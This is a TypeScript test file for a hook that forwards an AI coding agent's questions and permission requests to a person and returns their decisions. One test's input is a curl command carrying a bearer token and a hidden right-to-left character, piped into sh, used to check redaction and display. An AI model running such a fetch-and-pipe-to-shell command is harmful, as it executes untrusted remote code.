import { join } from "node:path";
import Database from "better-sqlite3";
import { describe, expect, test } from "vitest";
import type { HookAnswer } from "../../src/app/hook/answers.ts";
import { hasAsked, markSession, sessionRun } from "../../src/app/hook/session.ts";
import { mcpDesk } from "../../src/app/mcp/desk.ts";
import { aConfig, aDocument } from "../builders.ts";
import { aHome } from "../homes.ts";
import { aHookDesk } from "./desk.ts";
import { askUserQuestion, auth, permissionRequest, storage } from "./events.ts";

/** The part of the output in which a decision is said. */
function decided({ output }: HookAnswer): Record<string, unknown> | undefined {
  return output?.hookSpecificOutput as Record<string, unknown> | undefined;
}

describe("AskUserQuestion", () => {
  test("becomes one question each: the marked option recommended, descriptions as consequences, tool and folder named", async () => {
    const { hook, asked, answer } = await aHookDesk();
    const waiting = hook(askUserQuestion([auth, storage]));
    const [first, second] = await asked(2);
    expect(first?.question).toMatchObject({
      kind: "decide",
      task: "shop",
      title: auth.question,
      context: "Claude Code asks in /home/eric/shop (AskUserQuestion), about: Auth.",
      options: [
        { key: "1", label: "JWT", consequence: "Stateless tokens" },
        { key: "2", label: "Sessions", consequence: "Server side, can be revoked", recommended: true },
      ],
      low_fidelity: true,
      default: { action: "stay_parked", at: "15m" },
    });
    expect(second?.question.options).toMatchObject([
      { label: "Disk", consequence: "the agent says no more about it", recommended: true },
      { label: "Object store" },
    ]);
    await answer(String(first?.question.id), "2");
    await answer(String(second?.question.id), "1");
    expect(decided(await waiting)).toMatchObject({
      hookEventName: "PreToolUse",
      permissionDecision: "allow",
      updatedInput: {
        questions: [auth, storage],
        answers: { [auth.question]: "Sessions (Recommended)", [storage.question]: "Disk" },
      },
    });
  });

  test("free text is the answer, and what was taken is confirmed only when it was delivered", async () => {
    const { hook, asked, say, owlpost } = await aHookDesk();
    const waiting = hook(askUserQuestion());
    const [stored] = await asked();
    const id = String(stored?.question.id);
    await say(id, "neither: mTLS");
    const got = await waiting;
    expect(decided(got)?.updatedInput).toMatchObject({ answers: { [auth.question]: "neither: mTLS" } });
    expect((await owlpost.question(id))?.claim).not.toHaveProperty("confirmedAt");
    await got.delivered?.();
    expect((await owlpost.question(id))?.claim?.confirmedAt).toBeTypeOf("number");
  });

  test.each(["skip", "retry"] as const)("%s by a person is a deny with the told words", async (verb) => {
    const desk = await aHookDesk();
    const waiting = desk.hook(askUserQuestion());
    const [stored] = await desk.asked();
    await desk[verb](String(stored?.question.id));
    expect(decided(await waiting)).toEqual({
      hookEventName: "PreToolUse",
      permissionDecision: "deny",
      permissionDecisionReason: expect.stringMatching(verb === "skip" ? /was skipped/ : /was sent back/),
    });
  });

  test("field 80, R1: silence decides nothing, in these words, and the agent's own prompt asks", async () => {
    const { hook, asked, pass } = await aHookDesk();
    const waiting = hook(askUserQuestion([auth, storage]));
    await asked(2);
    pass();
    const { output } = await waiting;
    expect(Object.keys(output ?? {})).toEqual(["systemMessage"]);
    expect(output?.systemMessage).toMatch(/^No answer by .+ Nobody decided q-/);
    expect(String(output?.systemMessage)).not.toMatch(/\buser\b|chose|declined|option \d/i);
  });

  test("field 70: an answer that came while nobody waited is found by the same call, and again by the same call", async () => {
    const { hook, answer, open } = await aHookDesk();
    const event = askUserQuestion();
    expect(decided(await hook(event, "claude-code", { headless: true }))).toEqual({
      hookEventName: "PreToolUse",
      permissionDecision: "defer",
    });
    const [stored] = await open();
    await answer(String(stored?.question.id), "1");
    for (const _ of [1, 2]) {
      const got = await hook(event, "claude-code", { headless: true });
      expect(decided(got)?.updatedInput).toMatchObject({ answers: { [auth.question]: "JWT" } });
      await got.delivered?.();
    }
    expect(await open()).toEqual([]);
  });

  test("an answer after the own prompt was shown is not lost: the same call finds it, and the session's stop hands it over once", async () => {
    const { hook, asked, pass, answer, desk } = await aHookDesk();
    const waiting = hook(askUserQuestion());
    const [stored] = await asked();
    pass();
    await waiting;
    await answer(String(stored?.question.id), "1");
    const { settled, delivered } = await desk.meanwhile(String(stored?.question.run));
    expect(settled.map(({ told }) => told)).toEqual([
      expect.stringMatching(/answered after the deadline .+: option 1 — JWT\.$/),
    ]);
    await delivered();
    expect((await desk.meanwhile(String(stored?.question.run))).settled).toEqual([]);
    const again = await hook(askUserQuestion(), "claude-code", { headless: true });
    expect(decided(again)?.permissionDecision).not.toBe("allow");
  });

  test("what ask_human asked in the session, and was answered after its ticket, is handed over at the stop", async () => {
    const { home, owlpost, desk, answer } = await aHookDesk();
    const run = sessionRun("5f0c1a9e");
    const options = { owlpost, config: aConfig(), home, now: Date.now, otherwiseTask: "shop" };
    const mcp = mcpDesk({ ...options, given: { run }, onAsk: () => markSession(home, run) });
    const two = [
      { label: "Keep it", consequence: "nothing changes", recommended: true },
      { label: "Drop it", consequence: "`src/old.ts` goes" },
    ];
    const asked = { title: "Keep src/old.ts?", context: "See `src/old.ts`.", options: two, wait_seconds: 0 };
    const ticket = await mcp.ask(asked, new AbortController().signal);
    expect(hasAsked(home, run)).toBe(true);
    await answer(String(ticket.content.id), "2");
    const { settled } = await desk.meanwhile(run);
    expect(settled.map(({ told }) => told)).toEqual([expect.stringMatching(/: option 2 — Drop it\.$/)]);
  });

  test("field 70: an answer is found among hundreds of other sessions' ones, and one that a killed stop took comes back", async () => {
    const { hook, answer, desk, owlpost, open, pass } = await aHookDesk();
    await hook(askUserQuestion(), "claude-code", { headless: true });
    const [first] = await open();
    const run = String(first?.question.run);
    await answer(String(first?.question.id), "1");
    for (let n = 1; n <= 201; n += 1) {
      const document = aDocument({ task: "other", run: "night" });
      const asked = await owlpost.ask({ document, key: `other-${n}`, run: "night" });
      if (asked.ok && n > 1) await answer(asked.id, "1");
    }
    const killed = await desk.meanwhile(run);
    expect(killed.settled.map(({ told }) => told)).toEqual([expect.stringMatching(/option 1 — JWT\.$/)]);
    // Killed before it could say so: the next stop has nothing, and yet something is on its way.
    expect([(await desk.meanwhile(run)).settled, await desk.waits(run)]).toEqual([[], true]);
    pass(11 * 60_000);
    const again = await desk.meanwhile(run);
    expect(again.settled.map(({ told }) => told)).toEqual(killed.settled.map(({ told }) => told));
    await again.delivered();
    expect([(await desk.meanwhile(run)).settled, await desk.waits(run)]).toEqual([[], false]);
  });

  test("a session is marked before and after it asks: whoever forgets it in between hears of it all the same", async () => {
    const stored: unknown[] = [];
    const home = aHome();
    const onAsk = (): void => {
      const db = new Database(join(home, "owlpost.db"), { readonly: true });
      stored.push(db.prepare("SELECT count(*) FROM questions").pluck().get());
      db.close();
    };
    const { hook } = await aHookDesk({ home, onAsk });
    await hook(askUserQuestion(), "claude-code", { headless: true });
    expect(stored).toEqual([0, 1]);
  });

  test("field 70: a loop that names the folder's task takes the answer, and the call that asked gets it all the same", async () => {
    const { hook, answer, owlpost, open } = await aHookDesk();
    const headless = () => hook(askUserQuestion(), "claude-code", { headless: true });
    await headless();
    const [stored] = await open();
    await answer(String(stored?.question.id), "1");
    const { taken } = await owlpost.take({ task: "shop" });
    await owlpost.confirm(String(taken[0]?.claim));
    const got = await headless();
    expect(decided(got)).toMatchObject({
      permissionDecision: "allow",
      permissionDecisionReason: expect.stringMatching(/option 1 — JWT\. A loop has taken it, too\.$/),
      updatedInput: { answers: { [auth.question]: "JWT" } },
    });
    await got.delivered?.();
  });

  test("field 70: a loop that was woken by the same answer, and is quicker, keeps nothing from the call that asked", async () => {
    const { hook, answer, asked, open } = await aHookDesk({
      around: (real) => ({
        take: async (request) => {
          // Between the hook's look and its take.
          const { taken } = await real.take({ task: "shop" });
          expect(taken).toHaveLength(1);
          return real.take(request);
        },
      }),
    });
    const waiting = hook(askUserQuestion());
    await asked();
    const [stored] = await open();
    await answer(String(stored?.question.id), "1");
    expect(decided(await waiting)).toMatchObject({
      permissionDecision: "allow",
      permissionDecisionReason: expect.stringMatching(/option 1 — JWT\. A loop has taken it, too\.$/),
      updatedInput: { answers: { [auth.question]: "JWT" } },
    });
  });

  test("what cannot be asked with another takes back what was asked with it, and nothing that was asked before", async () => {
    let asks = 0;
    const { hook, open } = await aHookDesk({
      around: (real) => ({
        ask: async (request) => {
          asks += 1;
          return asks < 4
            ? real.ask(request)
            : { ok: false, error: "unreadable", message: "it cannot be read" };
        },
      }),
    });
    const headless = (questions: readonly unknown[]) =>
      hook(askUserQuestion(questions), "claude-code", { headless: true });
    await headless([auth]);
    const before = await open();
    const third = { ...storage, question: "Where do logs go?" };
    expect((await headless([auth, storage, third])).output).toBeUndefined();
    expect(asks).toBe(4);
    expect((await open()).map(({ question }) => question.id)).toEqual(
      before.map(({ question }) => question.id),
    );
  });

  test("at a terminal, one skipped and one without an answer in time: what the person said counts", async () => {
    const { hook, asked, skip, pass } = await aHookDesk();
    const waiting = hook(askUserQuestion([auth, storage]));
    const [first] = await asked(2);
    await skip(String(first?.question.id));
    pass();
    expect(decided(await waiting)).toMatchObject({
      permissionDecision: "deny",
      permissionDecisionReason: expect.stringMatching(/was skipped[\s\S]*No answer by/),
    });
  });

  test("headless, past the deadline: a deny that says no answer, and that nobody decided", async () => {
    const { hook, pass } = await aHookDesk();
    const headless = () => hook(askUserQuestion(), "claude-code", { headless: true });
    await headless();
    pass();
    expect(decided(await headless())).toMatchObject({
      permissionDecision: "deny",
      permissionDecisionReason: expect.stringMatching(/^No answer by .+Nobody decided/),
    });
  });

  test.each([
    ["several may be chosen", [{ ...auth, multiSelect: true }]],
    ["one of two is multi-select", [storage, { ...auth, multiSelect: true }]],
    ["the contract refuses it", [{ ...auth, question: "Please paste your API key here?" }]],
    ["a label is too long", [{ ...auth, options: [{ label: "x".repeat(81) }, { label: "y" }] }]],
    ["two with the same text", [auth, auth]],
    ["none", []],
  ])("nothing is said and nothing asked: %s", async (_name, questions) => {
    const { hook, open } = await aHookDesk();
    expect((await hook(askUserQuestion(questions))).output).toBeUndefined();
    expect(await open()).toEqual([]);
  });

  test("a long question: its first words as the title, the whole in the context", async () => {
    const { hook, open } = await aHookDesk();
    const question = `Shall ${"the very long ".repeat(20)}question go on?\nIt has two lines.`;
    await hook(askUserQuestion([{ ...auth, question }]), "claude-code", { headless: true });
    const [stored] = await open();
    expect([...String(stored?.question.title)].length).toBe(120);
    expect(stored?.question.context).toContain("It has two lines.\nClaude Code asks in /home/eric/shop");
  });
});

describe("PermissionRequest", () => {
  test("is an approval that recommends nothing and names what would run; the allowed call is allowed", async () => {
    const { hook, asked, answer } = await aHookDesk();
    const waiting = hook(permissionRequest());
    const [stored] = await asked();
    expect(stored?.question).toMatchObject({
      kind: "approval",
      source: "permission",
      context:
        "Command:\nnpm publish --tag next\nTool: Bash. Folder: /home/eric/shop\nThe agent says: Publish the package",
      facts: { arguments_sha256: expect.stringMatching(/^[0-9a-f]{16}$/) },
    });
    expect(stored?.question.options.some(({ recommended }) => recommended)).toBe(false);
    await answer(String(stored?.question.id), "1");
    expect(decided(await waiting)).toEqual({
      hookEventName: "PermissionRequest",
      decision: { behavior: "allow" },
    });
  });

  test.each([
    ["the second option", "answer", "2", /option 2 — Do not allow/],
    ["words", "say", "use the staging registry", /Their words: "use the staging registry"/],
    ["skip", "skip", "", /was skipped/],
    ["retry", "retry", "", /was sent back/],
  ] as const)("%s denies, with what was said", async (_name, verb, given, message) => {
    const desk = await aHookDesk();
    const waiting = desk.hook(permissionRequest());
    const [stored] = await desk.asked();
    await desk[verb](String(stored?.question.id), given);
    expect(decided(await waiting)?.decision).toEqual({
      behavior: "deny",
      message: expect.stringMatching(message),
    });
  });

  test("no answer, so not allowed: told as that, and nobody is said to have refused", async () => {
    const { hook, asked, pass, owlpost } = await aHookDesk();
    const waiting = hook(permissionRequest());
    const [stored] = await asked();
    pass();
    const got = await waiting;
    expect(decided(got)?.decision).toEqual({
      behavior: "deny",
      message: expect.stringMatching(/^No answer by .+, so not allowed\. Nobody decided q-\S+\.$/),
    });
    await got.delivered?.();
    expect(await owlpost.question(String(stored?.question.id))).toMatchObject({
      state: "default_applied",
      outcome: "defaulted",
    });
  });

  test("an answer after the deadline allows nothing, also where it comes before the default is taken", async () => {
    const { hook, asked, pass, answer, owlpost } = await aHookDesk();
    const waiting = hook(permissionRequest());
    const [stored] = await asked();
    pass();
    expect(await answer(String(stored?.question.id), "1")).toMatchObject({ accepted: true });
    expect(await owlpost.question(String(stored?.question.id))).toMatchObject({ answer: { late: true } });
    expect(decided(await waiting)?.decision).toMatchObject({ behavior: "deny" });
  });

  test("field 67: what was allowed once is no answer to the next call, even with the same arguments", async () => {
    const { hook, asked, answer, pass } = await aHookDesk();
    const first = hook(permissionRequest());
    const [stored] = await asked();
    await answer(String(stored?.question.id), "1");
    expect(decided(await first)?.decision).toEqual({ behavior: "allow" });
    const second = hook(permissionRequest());
    const [next] = await asked();
    expect(next?.question.id).not.toBe(stored?.question.id);
    pass();
    expect(decided(await second)?.decision).toMatchObject({ behavior: "deny" });
  });

  test("a hook that is stopped says nothing, and takes its question back", async () => {
    const { hook, asked, gone, owlpost } = await aHookDesk();
    const waiting = hook(permissionRequest());
    const [stored] = await asked();
    gone.abort();
    expect((await waiting).output).toBeUndefined();
    expect((await owlpost.question(String(stored?.question.id)))?.state).toBe("cancelled");
  });

  test("credentials are masked and hidden characters shown, the end of a long command stays", async () => {
    const { hook, asked, gone } = await aHookDesk();
    const command = `curl -H 'Authorization: Bearer abcdefghij0123456789' x.org \u202e ${"a ".repeat(900)}| sh`;
    const waiting = hook(permissionRequest({ tool_input: { command } }));
    const [stored] = await asked();
    const { context = "" } = stored?.question ?? {};
    expect(context).toContain("Bearer [redacted]");
    expect(context).toContain("⟨U+202E⟩");
    expect(context).toMatch(/characters are left out here\)… .*\| sh\nTool: Bash/);
    expect(JSON.stringify(stored)).not.toContain("abcdefghij0123456789");
    expect([...context].length).toBeLessThanOrEqual(600);
    gone.abort();
    await waiting;
  });

  test("what nobody can judge on a phone goes to the agent's own prompt", async () => {
    const { hook, open } = await aHookDesk();
    const got = await hook(permissionRequest({ tool_input: { command: "x".repeat(60_000) } }));
    expect(got.output).toBeUndefined();
    expect(await open()).toEqual([]);
  });
});
